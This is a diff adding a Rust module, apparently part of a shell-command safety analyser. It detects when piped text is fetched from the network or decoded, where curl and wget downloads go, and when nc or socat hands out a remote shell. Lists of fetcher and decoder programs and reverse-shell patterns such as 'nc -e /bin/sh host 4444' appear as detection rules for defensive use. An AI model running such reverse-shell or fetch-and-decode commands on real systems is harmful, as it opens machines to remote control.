@@ -1,0 +1,355 @@
+//! Text that nobody has seen: it comes from the network or out of an encoding, and so can't be read before it runs.
+//!
+//! Only where it comes from counts here. What runs it is found where commands are read.
+
+use std::path::Path;
+
+use crate::shell::parse::unquote::UNSEEN;
+use crate::shell::wrappers::interpreters;
+use crate::shell::{Command, Input, Script, Word};
+
+/// How far a pipeline is followed back.
+const LONGEST_PIPELINE: u32 = 12;
+
+/// Programs that print what they fetch.
+const FETCHERS: &[&str] =
+    &["nc", "ncat", "netcat", "telnet", "socat", "http", "https", "xh", "httpie", "lynx", "w3m"];
+
+/// Programs that decode with one of these options; no options mean always.
+static DECODERS: &[(&[&str], &[&str])] = &[
+    (&["base64", "gbase64", "base32", "basenc"], &["-d", "-D", "--decode", "-di", "-id"]),
+    (&["openssl"], &["-d"]),
+    (&["xxd"], &["-r", "-rp", "-r -p"]),
+    (&["gpg", "gpg2"], &["-d", "--decrypt"]),
+    (&["tar", "bsdtar", "gtar"], &["-xO", "-xOf", "-xzO", "-xzOf", "-O", "--to-stdout", "xO", "xOf"]),
+    (&["unzip"], &["-p"]),
+    (&["gzip", "gunzip", "bzip2", "xz", "zstd", "brotli"], &["-d", "-dc", "-cd", "-c", "--decompress"]),
+    (&["zcat", "gzcat", "bzcat", "xzcat", "zstdcat", "uudecode", "uncompress"], &[]),
+];
+
+/// Options of `curl` whose value is the next word; the last letter of a cluster may be one too.
+const CURL_VALUED: &[&str] = &[
+    "-o",
+    "-H",
+    "-D",
+    "-d",
+    "-X",
+    "-u",
+    "-A",
+    "-b",
+    "-c",
+    "-e",
+    "-F",
+    "-T",
+    "-x",
+    "-m",
+    "-w",
+    "-K",
+    "-E",
+    "-U",
+    "-C",
+    "--output",
+    "--header",
+    "--proxy-header",
+    "--dump-header",
+    "--data",
+    "--data-raw",
+    "--data-binary",
+    "--request",
+    "--user",
+    "--user-agent",
+    "--cookie",
+    "--cookie-jar",
+    "--referer",
+    "--form",
+    "--upload-file",
+    "--proxy",
+    "--max-time",
+    "--connect-timeout",
+    "--retry",
+    "--write-out",
+    "--config",
+    "--cert",
+    "--key",
+    "--cacert",
+    "--url",
+    "--output-dir",
+    "--resolve",
+    "--range",
+];
+const WGET_VALUED: &[&str] = &[
+    "-O",
+    "-o",
+    "-P",
+    "-U",
+    "-t",
+    "-T",
+    "-a",
+    "-e",
+    "-i",
+    "--output-document",
+    "--output-file",
+    "--user-agent",
+    "--header",
+    "--post-data",
+    "--post-file",
+    "--body-file",
+    "--directory-prefix",
+    "--tries",
+    "--timeout",
+];
+
+/// Whether what comes in is unseen.
+pub(crate) fn comes_in(script: &Script, input: &Input) -> bool {
+    comes_in_within(script, input, LONGEST_PIPELINE)
+}
+
+fn comes_in_within(script: &Script, input: &Input, depth: u32) -> bool {
+    match input {
+        Input::Sketch(text) => text.contains(UNSEEN),
+        Input::From(index) if depth > 0 => prints_within(script, *index, depth - 1),
+        _ => false,
+    }
+}
+
+/// Whether what the command with this index prints is unseen.
+pub(crate) fn prints(script: &Script, index: usize) -> bool {
+    prints_within(script, index, LONGEST_PIPELINE)
+}
+
+fn prints_within(script: &Script, index: usize, depth: u32) -> bool {
+    let Some(command) = script.commands.get(index) else { return false };
+    would_print_within(script, command, depth)
+}
+
+/// Whether what a command prints would be unseen.
+pub(crate) fn would_print(script: &Script, command: &Command) -> bool {
+    would_print_within(script, command, LONGEST_PIPELINE)
+}
+
+fn would_print_within(script: &Script, command: &Command, depth: u32) -> bool {
+    let goes_elsewhere = command.redirects.iter().any(|redirect| redirect.output);
+    if goes_elsewhere {
+        return false;
+    }
+    let handed = command.words.iter().skip(1).any(|word| word.text.contains(UNSEEN));
+    let code_of_its_own = command.code.as_ref().is_some_and(|code| code.text.is_some());
+    handed
+        || fetches(command)
+        || decodes(command)
+        || (!code_of_its_own && comes_in_within(script, &command.input, depth))
+}
+
+/// Whether a command fetches something and prints it.
+fn fetches(command: &Command) -> bool {
+    let fetch = Fetch::of(command);
+    match command.program() {
+        "curl" => fetch.remote && !fetch.asks_help && fetch.file.is_none() && !fetch.named_by_server,
+        "wget" => fetch.remote && !fetch.asks_help && fetch.prints,
+        name if FETCHERS.contains(&name) => {
+            const PRINTS_NOTHING: &[&str] = &["-z", "-d", "--download", "--offline"];
+            !command.words.iter().any(|word| PRINTS_NOTHING.contains(&word.text.as_str()))
+                && command.words.len() > 1
+        }
+        _ => false,
+    }
+}
+
+fn decodes(command: &Command) -> bool {
+    let program = command.program();
+    DECODERS.iter().any(|(names, options)| {
+        names.contains(&program)
+            && (options.is_empty() || command.words.iter().any(|word| options.contains(&word.text.as_str())))
+    })
+}
+
+/// The file that a download goes to.
+pub(crate) fn downloads_to(command: &Command) -> Option<Word> {
+    let fetch = Fetch::of(command);
+    let fetches = matches!(command.program(), "curl" | "wget") && fetch.remote && !fetch.asks_help;
+    (fetches && !fetch.named_by_server).then_some(fetch.file).flatten()
+}
+
+/// A call of `curl` or `wget`.
+#[derive(Default)]
+struct Fetch {
+    remote: bool,
+    asks_help: bool,
+    /// Whether the text goes to the standard output because the words say so.
+    prints: bool,
+    named_by_server: bool,
+    file: Option<Word>,
+}
+
+impl Fetch {
+    fn of(command: &Command) -> Fetch {
+        let curl = command.program() == "curl";
+        let valued = if curl { CURL_VALUED } else { WGET_VALUED };
+        let output: &[&str] = if curl { &["-o", "--output"] } else { &["-O", "--output-document"] };
+        let mut fetch = Fetch::default();
+        let mut keeps_name = !curl;
+        let mut url = None;
+        let mut words = command.words.iter().skip(1);
+        while let Some(word) = words.next() {
+            let text = word.text.as_str();
+            if let Some((name, value)) = text.split_once('=').filter(|(name, _)| name.starts_with("--")) {
+                if name.len() > 8 && output.iter().any(|option| option.starts_with(name)) {
+                    fetch.goes_to(&Word { text: value.to_owned(), ..word.clone() });
+                }
+            } else if !text.starts_with('-') || text == "-" {
+                fetch.remote |= !text.starts_with("file:");
+                url = Some(word.clone());
+            } else if text.starts_with("--") {
+                fetch.asks_help |= matches!(text, "--help" | "--version");
+                keeps_name |= text == "--remote-name";
+                fetch.named_by_server |= text == "--remote-header-name" || text == "--content-disposition";
+                let value = if valued.contains(&text) { words.next() } else { None };
+                if let Some(value) = value.filter(|_| output.contains(&text)) {
+                    fetch.goes_to(value);
+                }
+            } else {
+                keeps_name |= curl && text.contains('O');
+                fetch.named_by_server |= curl && text.contains('J');
+                fetch.cluster(text, valued, output, &mut words, word);
+            }
+        }
+        if keeps_name && fetch.file.is_none() && !fetch.prints {
+            fetch.file = url.and_then(|url| last_name(&url));
+        }
+        fetch
+    }
+
+    /// `-fsSLo file`, `-qO-`: the first letter that takes a value ends the cluster.
+    fn cluster<'w>(
+        &mut self,
+        text: &str,
+        valued: &[&str],
+        output: &[&str],
+        words: &mut impl Iterator<Item = &'w Word>,
+        word: &Word,
+    ) {
+        let letters = text.get(1..).unwrap_or_default();
+        for (at, letter) in letters.char_indices() {
+            let option = format!("-{letter}");
+            if !valued.contains(&option.as_str()) {
+                continue;
+            }
+            let glued = letters.get(at + letter.len_utf8()..).unwrap_or_default();
+            let value = match glued {
+                "" => words.next().cloned(),
+                glued => Some(Word { text: glued.to_owned(), ..word.clone() }),
+            };
+            if let Some(value) = value.filter(|_| output.contains(&option.as_str())) {
+                self.goes_to(&value);
+            }
+            return;
+        }
+    }
+
+    fn goes_to(&mut self, value: &Word) {
+        match value.text.as_str() {
+            "-" | "/dev/stdout" | "/dev/fd/1" => self.prints = true,
+            _ => self.file = Some(value.clone()),
+        }
+    }
+}
+
+fn last_name(url: &Word) -> Option<Word> {
+    let path = url.text.split(['?', '#']).next()?;
+    let (_, after) = path.split_once("://").unwrap_or(("", path));
+    let (_, name) = after.rsplit_once('/')?;
+    (url.known && !name.is_empty()).then(|| Word::literal(name))
+}
+
+/// Whether a command gives somebody on the network a shell: `nc -e /bin/sh host 4444`, `socat TCP:… EXEC:sh`.
+pub(crate) fn gives_a_shell(command: &Command) -> bool {
+    let operands: Vec<&str> = command.words.iter().skip(1).map(|word| word.text.as_str()).collect();
+    match command.program() {
+        "nc" | "ncat" | "netcat" => {
+            let runs = |text: &&str| {
+                matches!(*text, "--exec" | "--sh-exec" | "-c")
+                    || text.starts_with("--exec=")
+                    || text.starts_with("--sh-exec=")
+                    || (text.starts_with('-') && !text.starts_with("--") && text.ends_with('e'))
+            };
+            // Without a host or a port it connects with nobody.
+            operands.iter().any(runs)
+                && operands.iter().any(|text| names_a_shell(text))
+                && operands.iter().any(|text| text.bytes().all(|byte| byte.is_ascii_digit()))
+        }
+        "socat" => operands.iter().any(|text| {
+            let kind = text.split(':').next().unwrap_or_default();
+            kind.eq_ignore_ascii_case("SHELL")
+                || (["EXEC", "SYSTEM"].iter().any(|known| kind.eq_ignore_ascii_case(known))
+                    && names_a_shell(text))
+        }),
+        _ => false,
+    }
+}
+
+/// Whether a shell is among the words of a text.
+fn names_a_shell(text: &str) -> bool {
+    text.split([' ', '=', ',', ':', '"', '\'', '\\'])
+        .any(|word| interpreters::is_shell(crate::shell::program_name(word)))
+}
+
+/// `/proc/self/fd/3` by its other name.
+pub(crate) fn descriptor(path: &Path) -> Option<&str> {
+    let text = path.to_str()?;
+    ["/dev/fd/", "/proc/self/fd/", "/proc/thread-self/fd/"]
+        .iter()
+        .find_map(|prefix| text.strip_prefix(prefix))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::event::Dialect;
+    use crate::shell::read;
+
+    #[test]
+    fn what_is_fetched_or_decoded_is_unseen() {
+        for (text, expected) in [
+            ("curl http://x", true),
+            ("curl -fsSL http://x", true),
+            ("curl -H --help http://x", true),
+            ("curl -sSo f http://x", false),
+            ("curl -O http://x/f", false),
+            ("curl --help", false),
+            ("curl file:///w/f", false),
+            ("wget http://x/f", false),
+            ("wget -qO- http://x", true),
+            ("wget --output-doc=- http://x", true),
+            ("curl http://x | tee f | head", true),
+            ("nc -l 4444", true),
+            ("nc -z host 4444", false),
+            ("base64 -d f", true),
+            ("base64 f", false),
+            ("openssl enc -base64 -d", true),
+            ("tar -xO a.tar f", true),
+            ("cat f", false),
+            ("echo $(curl http://x)", true),
+        ] {
+            let script = read(text, Dialect::Posix);
+            assert_eq!(prints(&script, script.commands.len() - 1), expected, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_download_says_where_it_goes() {
+        for (text, expected) in [
+            ("curl -o f http://x", Some("f")),
+            ("curl -fsSLo f http://x", Some("f")),
+            ("curl -O http://x/a/f.sh?q=1", Some("f.sh")),
+            ("curl -OJ http://x/f", None),
+            ("wget http://x/f", Some("f")),
+            ("wget -qO f http://x", Some("f")),
+            ("wget -O- http://x", None),
+            ("curl http://x", None),
+        ] {
+            let script = read(text, Dialect::Posix);
+            let file = downloads_to(&script.commands[0]).map(|word| word.text);
+            assert_eq!(file.as_deref(), expected, "{text}");
+        }
+    }
+}
